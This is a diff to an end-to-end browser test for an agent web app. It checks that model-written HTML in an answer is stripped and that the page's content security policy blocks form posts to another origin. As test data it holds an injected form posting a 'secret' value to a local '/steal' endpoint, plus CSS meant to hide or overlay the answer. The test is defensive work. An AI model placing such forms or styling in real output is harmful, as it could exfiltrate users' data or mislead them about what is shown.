@@ -4,8 +4,10 @@
  * and plan check, fill the typed form (a client-side check first), see the server's message
  * for a rejected plan edit, confirm the plan, approve a write_file call, and watch every graph
  * node complete and the Markdown answer render, sanitised — and still there after a reload.
+ * A model-written form or styling never reaches the page, and the page's CSP lets no form post.
  */
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -16,7 +18,7 @@ import { createApp } from '../../client/http/create-app';
 import { reply } from '../fake-llm/replies';
 import { byRoute } from '../fake-llm/routes';
 import { agentTestbed } from '../harness/agent-testbed';
-import { finish, plan, planReply, step } from '../harness/agents';
+import { finish, plan, planReply, startAgent, step } from '../harness/agents';
 import { testConfig, withWorker } from '../harness/test-env';
 
 const CHROMIUM = '/usr/bin/chromium';
@@ -209,6 +211,70 @@ test('with an API token: the page loads without it, and sends the one given by ?
   } finally {
     await context.close();
     await served.close();
+    rmSync(profile, { recursive: true, force: true });
+  }
+});
+
+test('a model-written form and styling are stripped from the answer, and the page lets no form post', async () => {
+  // Another origin that would receive whatever a form posted to it.
+  const received: string[] = [];
+  const elsewhere = createServer((req, res) => {
+    received.push(`${req.method} ${req.url}`);
+    res.end('got it');
+  });
+  const elsewherePort = await new Promise<number>((resolve) =>
+    elsewhere.listen(0, '127.0.0.1', () => resolve((elsewhere.address() as AddressInfo).port)),
+  );
+  const steal = `http://127.0.0.1:${elsewherePort}/steal`;
+  const answer = [
+    '## Result',
+    '',
+    `<form action="${steal}" method="post"><input name="q" value="secret"><button>Continue</button></form>`,
+    '',
+    '<textarea>typed</textarea><select><option>one</option></select>',
+    '',
+    '<style>.final-answer { display: none }</style>',
+    '',
+    '<p style="position: fixed; inset: 0">styled</p>',
+    '',
+    '- [x] done',
+    '- [ ] open',
+  ].join('\n');
+  bed.llm.respondWith(byRoute({ 'step:task': [finish(answer)] }));
+  const served = await serveApp(bed.config.taskQueue);
+  const { context, profile } = await launchChromium();
+  try {
+    await withWorker(bed.config, async () => {
+      const handle = await startAgent(bed.client, bed.config, { task: 'Answer with a form', mode: { plan: false } });
+      expect(await handle.result()).toMatchObject({ status: 'completed', answer });
+      const page = context.pages()[0] ?? (await context.newPage());
+      const response = await page.goto(`${served.url}/agents/${encodeURIComponent(handle.workflowId)}`);
+      expect(response?.headers()['content-security-policy']).toContain("form-action 'none'");
+      await page.locator('.final-answer h2', { hasText: 'Result' }).waitFor(WAIT);
+      const final = page.locator('.final-answer');
+      expect(await final.locator('form, input, button, textarea, select, option, style, [style]').count()).toBe(0);
+      expect(await final.locator('p', { hasText: 'styled' }).count()).toBe(1);
+      expect(await final.locator('li').allTextContents()).toEqual(['☑ done', '☐ open']);
+
+      // Even a form the page itself built, posted to another origin, is stopped by the CSP.
+      const where = page.url();
+      // (Page code as text: the test's TypeScript has no DOM types.)
+      const violated: unknown = await page.evaluate(`new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+        const form = document.createElement('form');
+        form.method = 'post';
+        form.action = ${JSON.stringify(steal)};
+        document.body.append(form);
+        form.submit();
+      })`);
+      expect(violated).toBe('form-action');
+      expect(page.url()).toBe(where);
+      expect(received).toEqual([]);
+    });
+  } finally {
+    await context.close();
+    await served.close();
+    await new Promise<void>((resolve) => elsewhere.close(() => resolve()));
     rmSync(profile, { recursive: true, force: true });
   }
 });
